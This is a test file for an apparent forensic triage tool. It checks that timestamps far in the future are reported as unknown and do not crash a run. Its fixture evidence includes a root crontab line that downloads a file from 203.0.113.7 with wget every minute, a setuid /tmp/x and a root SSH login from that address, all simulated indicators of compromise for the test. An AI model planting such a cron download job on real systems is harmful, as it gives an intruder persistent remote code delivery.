import assert from "node:assert/strict";
import { mkdirSync, mkdtempSync, rmSync, utimesSync, writeFileSync } from "node:fs";
import { tmpdir } from "node:os";
import { dirname, join } from "node:path";
import { test } from "node:test";
import { caseJson } from "../../src/report/case-json.ts";
import { investigate } from "../../src/run/investigate.ts";
import { QUIET } from "../kit/investigated.ts";

/** Seconds since 1970 that files and logs can hold, in the years 2400 and 5138. */
const FAR_FILE = 13_569_465_600;
const FAR = 99_999_999_999;

const FILES: Readonly<Record<string, string>> = {
  "root/.bash_history": `#${FAR}\nid\n`,
  "root/.zsh_history": `: ${FAR}:0;w\n`,
  "root/.local/share/fish/fish_history": `- cmd: ls\n  when: ${FAR}\n`,
  "etc/hostname": "web01\n",
  "etc/crontab": "* * * * * root wget -q http://203.0.113.7/x -O /tmp/x\n",
  "proc/stat": `btime ${FAR}\n`,
  "bodyfile.txt": `0|/tmp/x|1|-rwsr-xr-x|0|0|1|${FAR}|${FAR}|32503679999|${FAR}\n`.repeat(3),
  "var/log/auth.log":
    "2255-06-05T23:47:00 web01 sshd[1]: Accepted password for root from 203.0.113.7 port 1 ssh2\n".repeat(3),
  "var/log/osquery/osqueryd.results.log":
    '{"name":"a","hostIdentifier":"web01","unixTime":10000000000,"columns":{"cmdline":"id"}}\n',
  "var/log/caddy.log":
    '{"ts":9999999999.5,"request":{"client_ip":"203.0.113.7","uri":"/jars/upload"},"status":404}\n',
  "etc/timezone": "Etc/GMT+12\n",
};

test("times that are no time a computer can tell are unknown, and end no run", async () => {
  const folder = mkdtempSync(join(tmpdir(), "paydirt-test-"));
  try {
    for (const [path, text] of Object.entries(FILES)) {
      const file = join(folder, "host", path);
      mkdirSync(dirname(file), { recursive: true });
      writeFileSync(file, text);
      utimesSync(file, FAR_FILE, FAR_FILE);
    }
    const loose = join(folder, "loose.txt");
    writeFileSync(loose, "nothing\n");
    utimesSync(loose, FAR_FILE, FAR_FILE);
    const evidence = [join(folder, "host"), loose, join(folder, "host/bodyfile.txt")];
    const found = await investigate({ ...QUIET, evidence });
    assert.equal(found.case.hosts[0]?.counts["command"], 4);
    assert.doesNotMatch(caseJson(found.case), /null[TZ]|NaN/);
  } finally {
    rmSync(folder, { recursive: true });
  }
});
